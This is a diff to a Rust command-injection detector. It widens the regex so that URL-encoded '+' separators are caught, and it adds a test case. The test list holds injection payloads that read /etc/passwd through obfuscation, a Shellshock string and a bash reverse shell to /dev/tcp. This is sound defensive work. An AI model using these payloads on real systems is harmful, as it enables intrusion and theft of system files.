@@ -215,8 +215,9 @@ fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
 
 impl Cmdi {
     pub fn new() -> Result<Cmdi, String> {
-        // An argument shape: option, path, variable, redirection, glob, or end of the value.
-        let arg = r#"(?:\s+[-/~.$<>*?{%"']|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{1,5}(?:\s|$)|\s*$)"#;
+        // An argument shape: option, path, variable, redirection, glob, or end of the value. A `+`
+        // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
+        let arg = r#"(?:[\s+]+[-/~.$<>*?{%"']|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{1,5}(?:\s|$)|\s*$)"#;
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
@@ -496,6 +497,7 @@ mod tests {
                 "$(id)",
                 "; c'a't /et'c'/pas's'wd",
                 "www.google.com;c$@at /et$@c/pas$@swd",
+                "example.org;ca$_t+/etc/host$*s",
                 "127.0.0.1;cat${IFS}/etc/passwd",
                 "() { :;}; /bin/bash -c 'id'",
                 "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
